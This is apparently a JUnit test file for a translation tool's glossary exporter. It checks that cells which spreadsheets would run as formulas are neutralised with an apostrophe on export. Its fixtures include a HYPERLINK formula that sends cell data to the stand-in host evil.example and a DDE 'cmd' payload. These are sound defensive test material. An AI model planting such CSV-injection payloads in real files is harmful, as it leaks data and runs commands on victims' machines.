package org.triptych.exchange;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.triptych.export.CsvExporter;
import org.triptych.export.GlossaryExport;
import org.triptych.io.CsvTable;
import org.triptych.io.GlossaryCodec;
import org.triptych.model.Concept;
import org.triptych.model.Glossary;
import org.triptych.model.Term;
import org.triptych.task.Progress;
import org.triptych.testing.ExchangeFixtures;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;

/** Cells that spreadsheets would run as formulas are made inert in every table Triptych exports, and only there. */
class SpreadsheetCellsTest {

    @TempDir
    Path dir;

    private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";

    @Test
    void formulaStartsGetAnApostropheAndComeBackWithoutIt() {
        for (String cell : List.of("=1+1", "+1", "-ся", "@SUM(A1)", "\tx", "\rx")) {
            assertThat(SpreadsheetCells.neutralise(cell)).isEqualTo("'" + cell);
            assertThat(SpreadsheetCells.restore(SpreadsheetCells.neutralise(cell))).isEqualTo(cell);
        }
        for (String cell : List.of("", "Київ", "키이우", "'quoted'", "a=b", " =x", "#", "'")) {
            assertThat(SpreadsheetCells.neutralise(cell)).isEqualTo(cell);
            assertThat(SpreadsheetCells.restore(cell)).isEqualTo(cell);
        }
    }

    private Glossary hostile() {
        Concept formula = new Concept(Map.of(
                "en", List.of(new Term("en", HYPERLINK, true)),
                "uk", List.of(new Term("uk", "-ся", true), new Term("uk", "+1", false)),
                "ko", List.of(new Term("ko", "@사용자", true))),
                Map.of("uk", List.of("=cmd|' /C calc'!A0")), "-note", Map.of(), 2);
        return new Glossary(dir.resolve("glossaries/terms.csv"), List.of("en", "ko", "uk", "uk_forbidden", "note"),
                List.of("en", "ko", "uk"), List.of(formula));
    }

    @Test
    void glossaryCsvExportsAreNeutralisedLikeDocumentExports() throws Exception {
        Path out = dir.resolve("terms.csv");
        GlossaryExport.export(hostile(), GlossaryExport.Format.CSV, List.of(), out);
        CsvTable table = CsvTable.read(out);
        CsvTable.Row row = table.rows().get(0);
        assertThat(row.cell(table.header().indexOf("en"))).isEqualTo("'" + HYPERLINK);
        assertThat(row.cell(table.header().indexOf("uk"))).isEqualTo("'-ся|+1");
        assertThat(row.cell(table.header().indexOf("ko"))).isEqualTo("'@사용자");
        assertThat(row.cell(table.header().indexOf("uk_forbidden"))).startsWith("'=cmd");
        assertThat(row.cell(table.header().indexOf("note"))).isEqualTo("'-note");

        Path document = dir.resolve("document.csv");
        CsvExporter.export(ExchangeFixtures.document(dir.resolve("translations/a.csv")), List.of("uk"), document, Progress.NONE);
        assertThat(Files.readString(document)).contains(",'-Це не формула.,"); // the same rule as the document's
    }

    @Test
    void omegatExportsAreNeutralisedAndReadBackAsTheyWere() throws Exception {
        Path out = dir.resolve("terms.txt");
        GlossaryExport.export(hostile(), GlossaryExport.Format.OMEGAT, List.of("uk"), out);
        List<String> lines = Files.readAllLines(out);
        assertThat(lines).contains("'" + HYPERLINK + "\t'-ся\t'-note; not: =cmd|' /C calc'!A0",
                "'" + HYPERLINK + "\t'+1\t'-note; not: =cmd|' /C calc'!A0");
        Glossary back = OmegatGlossary.read(out, "uk", dir.resolve("back.csv"));
        assertThat(back.concepts()).extracting(Concept::english).containsOnly(HYPERLINK);
        assertThat(back.concepts()).extracting(c -> c.preferred("uk")).containsExactly("-ся", "+1");
    }

    @Test
    void workspaceGlossarySavesAreDataAndStayUntouched() throws Exception {
        Glossary glossary = hostile();
        GlossaryCodec.save(glossary);
        String saved = Files.readString(glossary.path());
        assertThat(saved).contains(HYPERLINK.replace("\"", "\"\"")).contains("-ся|+1").doesNotContain("'-ся").doesNotContain("'=");
        assertThat(GlossaryCodec.read(glossary.path()).concepts().get(0).english()).isEqualTo(HYPERLINK);
    }
}
